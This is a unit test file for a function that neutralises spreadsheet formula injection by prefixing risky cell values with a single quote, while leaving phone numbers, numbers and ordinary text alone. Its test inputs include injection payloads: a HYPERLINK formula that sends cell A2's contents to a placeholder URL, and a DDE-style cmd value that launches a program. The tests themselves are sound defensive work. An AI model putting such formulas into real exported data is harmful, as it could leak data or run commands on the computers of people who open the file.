import { describe, expect, it } from 'vitest';
import { spreadsheetCell } from './spreadsheet-cell';

describe('spreadsheetCell', () => {
  it.each([
    ['=HYPERLINK("https://x/?"&A2,"Open")', `'=HYPERLINK("https://x/?"&A2,"Open")`],
    ['@SUM(1)', `'@SUM(1)`],
    ["+cmd|' /C calc'!A0", `'+cmd|' /C calc'!A0`],
    ['-2+3', `'-2+3`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['=1+1', `'=1+1`],
    // Looks like a phone but is arithmetic: too few digits, or a `+` in the middle.
    ['+1+1', `'+1+1`],
    ['+1 512+555+0100', `'+1 512+555+0100`],
    ['-555-0100-1234', `'-555-0100-1234`],
  ])('neutralises %j with a leading single quote', (value, cell) => {
    expect(spreadsheetCell(value)).toBe(cell);
  });

  it.each(['+1 512-555-0100', '(512) 555-0100', '+44 20 7946 0958', '+1 (713) 555.0100', '713-555-0100'])(
    'leaves the phone number %j readable',
    (phone) => {
      expect(spreadsheetCell(phone)).toBe(phone);
    },
  );

  it('leaves plain numbers numbers', () => {
    expect(spreadsheetCell(4.5)).toBe('4.5');
    expect(spreadsheetCell(0)).toBe('0');
    expect(spreadsheetCell(120)).toBe('120');
    expect(spreadsheetCell('-3')).toBe('-3');
    expect(spreadsheetCell(-0.5)).toBe('-0.5');
  });

  it('leaves ordinary text alone, including formula characters that do not lead', () => {
    for (const text of ['Joe’s Diner', '1 Main St, Springfield, IL', 'https://joes.example', 'A=B Dental', 'Smile + Co', 'hello@joes.example', ' =not first']) {
      expect(spreadsheetCell(text)).toBe(text);
    }
  });

  it('writes nothing for a missing value', () => {
    expect(spreadsheetCell(null)).toBe('');
    expect(spreadsheetCell(undefined)).toBe('');
    expect(spreadsheetCell('')).toBe('');
  });
});
